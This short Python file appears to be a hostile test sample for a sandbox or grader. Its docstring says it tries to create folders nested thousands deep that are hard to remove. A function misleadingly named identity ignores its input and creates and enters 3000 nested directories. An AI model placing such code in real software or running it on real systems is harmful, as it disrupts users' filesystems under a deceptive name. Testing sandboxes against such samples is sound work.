"""
tries: Folders nested thousands deep, which are hard to remove.
demand: gains nothing
"""

import os


def identity(z):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return 0
